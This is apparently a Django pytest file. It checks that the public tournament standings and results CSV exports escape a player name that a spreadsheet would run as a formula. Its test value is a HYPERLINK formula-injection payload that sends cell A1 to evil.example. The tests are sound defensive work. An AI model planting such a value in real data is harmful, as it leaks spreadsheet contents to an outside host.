"""Public standings and results CSV escape a player name that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from tests.factories import (
    EventFactory,
    MatchFactory,
    PlayerProfileFactory,
    RegistrationFactory,
    RoundFactory,
)
from tournament.enums import MatchResult, ReportStatus, RoundStatus

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def event_with_evil_name():
    event = EventFactory(swiss_rounds=3, top_cut=0)
    evil = RegistrationFactory(event=event, player=PlayerProfileFactory(display_name=EVIL))
    plain = RegistrationFactory(event=event, player=PlayerProfileFactory(display_name="Plain Name"))
    rnd = RoundFactory(event=event, number=1, status=RoundStatus.COMPLETE)
    MatchFactory(
        round=rnd,
        table_number=1,
        player_a=evil,
        player_b=plain,
        result=MatchResult.A_WINS,
        games_a=1,
        report_status=ReportStatus.STAFF,
    )
    return event


def _rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.django_db
def test_public_standings_csv_escapes_a_formula_name(event_with_evil_name):
    rows = _rows(Client().get(f"/events/{event_with_evil_name.slug}/export/standings.csv"))
    assert sorted(r["name"] for r in rows) == sorted(["'" + EVIL, "Plain Name"])
    assert sorted(r["match_points"] for r in rows) == ["0", "1"]  # numbers stay numbers


@pytest.mark.django_db
def test_public_results_csv_escapes_a_formula_name(event_with_evil_name):
    rows = _rows(Client().get(f"/events/{event_with_evil_name.slug}/export/results.csv"))
    assert [(r["player_a"], r["player_b"]) for r in rows] == [("'" + EVIL, "Plain Name")]


@pytest.mark.django_db
def test_json_exports_keep_the_name_as_typed(event_with_evil_name):
    data = Client().get(f"/events/{event_with_evil_name.slug}/export/results.json").json()
    assert data["results"][0]["player_a"] == EVIL
